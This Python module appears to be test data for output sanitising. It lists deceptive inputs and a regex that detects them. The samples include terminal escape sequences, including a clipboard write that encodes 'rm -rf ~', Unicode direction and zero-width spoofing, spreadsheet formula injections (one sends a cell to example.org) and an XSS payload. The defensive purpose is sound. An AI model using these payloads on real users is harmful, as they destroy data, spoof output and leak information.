"""Texts that services, runs and files of strangers may hold to deceive who reads them."""

from __future__ import annotations

import re

FORGED = "FORGED"
"""Stands in hostile texts where a line of eechips would be imitated."""

HOSTILE_TEXTS = (
    f"\x1b[2J\x1b[1;1H{FORGED} screen",
    f"\x1b[1A\x1b[2K{FORGED} line above",
    "\x1b]0;title\x07",
    "\x1b]8;;https://example.org\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4=\x07",
    "\x1b[8mconcealed\x1b[0m",
    "\x1b[31;1mred",
    '\x1bP$q"p\x1b\\',
    "\x1b[6n",
    "\x9b2J\x9d0;title\x9c",
    f"a\n{FORGED}: all is well",
    f"a\r{FORGED} from the start",
    f"a\r\n{FORGED}\r\n",
    f"a\x0b{FORGED}\x0c{FORGED}",
    f"a\u2028{FORGED}\u2029{FORGED}\x85{FORGED}",
    "over\x08\x08\x08\x08typed",
    "bell\x07nul\x00del\x7f",
    "\u202egnp.exe",
    "\u2066left\u2069 \u2067right\u2069",
    "\u202afirst\u202c\u200e\u200f\u061c",
    "zero\u200bwidth\u2060joined\ufeff",
    "pay\u200dpal",
    "soft\u00adhyphen\u034f\u180e",
    "tag\U000e0041\U000e0042\U000e007f",
    "Z" + "\u0301" * 200,
    "\ufff9a\ufffab\ufffb\uffff",
    '=HYPERLINK("https://example.org?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "+1-1+cmd|' /C calc'!A0",
    "-2+3",
    "</script><img src=x onerror=alert(1)>",
    "x" * 30_000,
)

UNSAFE = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u00ad\u034f\u061c\u180e\u200b\u200d-\u200f\u2028-\u202e\u2060-\u206f\ufeff"
    "\ufff9-\ufffb\uffff\U000e0000-\U000e007f]|\u0301{4}|\r(?!\n)"
)
"""What no output may contain."""


def unsafe_parts(text: str) -> list[str]:
    """Return the unsafe characters of an output, and its lines that hostile texts have begun."""
    return UNSAFE.findall(text) + [line for line in text.splitlines() if line.lstrip("\"' ").startswith(FORGED)]
